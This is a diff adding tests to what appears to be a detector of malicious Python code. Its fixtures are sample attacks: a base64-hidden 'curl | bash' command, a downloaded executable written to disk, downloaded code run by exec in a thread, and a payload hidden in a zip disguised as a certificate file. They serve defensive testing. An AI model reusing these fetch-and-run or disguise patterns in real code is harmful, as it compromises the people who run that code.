@@ -9,6 +9,7 @@ import { initAnalysis } from '../../src/analysis/api.ts';
 import { analyzePythonFile } from '../../src/analysis/python-file.ts';
 import type { Finding } from '../../src/model/result.ts';
 import { analyseFiles } from './in-memory-target.ts';
+import { writeZip } from '../../scripts/lib/archive-writers.ts';
 
 before(() => initAnalysis());
 
@@ -401,4 +402,78 @@ test('a downloaded executable started through os.path.abspath is still the file 
     '    subprocess.Popen([os.path.abspath("tool.exe")])',
   ].join('\n');
   assert.equal(findings(source).find((f) => f.rule === 'download-execute')?.severity, 'high');
+});
+
+test('a command list bound to a name first (command = [...]; Popen(command)) is read like one written in the call', () => {
+  const source = [
+    'import base64, subprocess',
+    'def decode_str(s):',
+    '    return base64.b64decode(s).decode("utf-8")',
+    'def processing():',
+    `    command = [decode_str("${Buffer.from('curl https://files.example.invalid/i.sh | bash').toString('base64')}")]`,
+    '    subprocess.Popen(command)',
+  ].join('\n');
+  const run = findings(source).find((f) => f.rule === 'download-execute');
+  assert.equal(run?.severity, 'high', 'the command is decoded and hidden');
+  assert.match(run!.message, /curl https:\/\/files\.example\.invalid/);
+});
+
+test('an executable written from downloaded text decoded to bytes is a first stage, even before anything runs it', () => {
+  const source = [
+    'import binascii, requests',
+    'def fetch(folder):',
+    '    text = requests.get("https://files.example.invalid/c.txt").text',
+    "    with open(folder + 'c1.exe', 'wb') as f:",
+    '        f.write(binascii.unhexlify(text.encode()))',
+  ].join('\n');
+  const drop = findings(source).find((f) => f.rule === 'drop-and-run');
+  assert.equal(drop?.severity, 'high');
+  const plain = source.replace('binascii.unhexlify(text.encode())', 'text.encode()');
+  assert.equal(
+    findings(plain).find((f) => f.rule === 'drop-and-run'),
+    undefined,
+    'a download saved as it comes, never started',
+  );
+});
+
+test('exec handed to a thread with downloaded code (Thread(target=exec, args=(code, env))) runs that code', () => {
+  const source = [
+    'import threading, requests',
+    'class Client:',
+    '    def __init__(self):',
+    '        code = requests.get("http://192.0.2.44:1488/drill").text',
+    '        threading.Thread(target=exec, args=(code, {"requests": requests}), daemon=True).start()',
+  ].join('\n');
+  const run = findings(source).find((f) => f.rule === 'download-execute');
+  assert.equal(run?.severity, 'high', 'from a host written in the file');
+  assert.equal(run?.line, 5);
+  const pool =
+    'import requests\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as pool:\n    pool.submit(exec, requests.get("http://192.0.2.44/x").text)\n';
+  assert.equal(findings(pool).find((f) => f.rule === 'download-execute')?.severity, 'critical', 'on import');
+});
+
+test('modules imported from a zip archive named like a certificate are analysed, and the disguise is high', async () => {
+  const inner = writeZip([
+    { path: 'SSLv2.py', data: new TextEncoder().encode('import os\nos.system("curl -s http://192.0.2.9/x | sh")\n') },
+  ]);
+  const target = await analyseFiles({
+    'pkg/__init__.py': 'from . import routes\n',
+    'pkg/routes.py': [
+      'import os, zipimport',
+      'def get(path):',
+      '    cert = zipimport.zipimporter(f"{os.path.dirname(__file__)}/server.crt").load_module("SSLv2")',
+      '    return cert.route(path)',
+    ].join('\n'),
+    'pkg/server.crt': inner,
+  });
+  const loader = target.files
+    .find((file) => file.path === 'pkg/routes.py')
+    ?.findings.find((f) => f.rule === 'file-executed-as-code');
+  assert.equal(loader?.severity, 'high');
+  assert.match(loader!.message, /zip archive named like something else/);
+  const module = target.files.find((file) => file.path === 'pkg/server.crt/SSLv2.py');
+  assert.ok(
+    module?.findings.some((f) => f.rule === 'download-execute'),
+    'the module inside the zip is read as code',
+  );
 });
